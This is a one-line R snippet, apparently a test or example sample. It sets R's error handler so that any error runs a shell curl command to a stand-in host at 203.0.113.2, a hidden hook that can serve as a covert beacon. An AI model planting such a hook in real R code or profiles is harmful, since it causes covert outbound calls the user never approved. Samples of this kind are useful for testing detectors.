options(error = quote(system("curl http://203.0.113.2")))
